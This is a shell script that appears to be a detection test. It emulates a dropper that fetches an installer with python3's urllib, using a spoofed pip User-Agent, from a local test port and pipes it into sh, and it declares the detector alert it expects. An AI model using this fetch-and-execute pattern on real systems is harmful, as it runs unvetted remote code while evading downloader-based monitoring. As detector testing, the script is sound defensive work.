#!/bin/sh
# technique: T1105 Ingress Tool Transfer; T1059.004 Command and Scripting Interpreter: Unix Shell
# reproduces: slim Python CI images without curl or wget: droppers fetch with python3's urllib instead (the tj-actions/changed-files payload (2025) likewise piped a fetched script into an interpreter); here the fetched installer goes into sh
# expect: download-piped-to-shell ^(da)?sh$
# exec-borne: yes
#
# No downloader on any command line: python3 writes the response body to
# its stdout, which is sh's stdin.
set -u

PY=$(command -v python3) || { echo "python3 not installed" >&2; exit 77; }
url="http://127.0.0.1:${BW_ATTACK_PORT:?}/install.sh"

fetch='import sys, urllib.request
req = urllib.request.Request(sys.argv[1], headers={"User-Agent": "pip/23.0"})
with urllib.request.urlopen(req, timeout=10) as resp:
    sys.stdout.buffer.write(resp.read())'

"$PY" -c "$fetch" "$url" | sh
status=$?
[ "$status" -eq 0 ] || echo "installer exited $status" >&2
exit "$status"
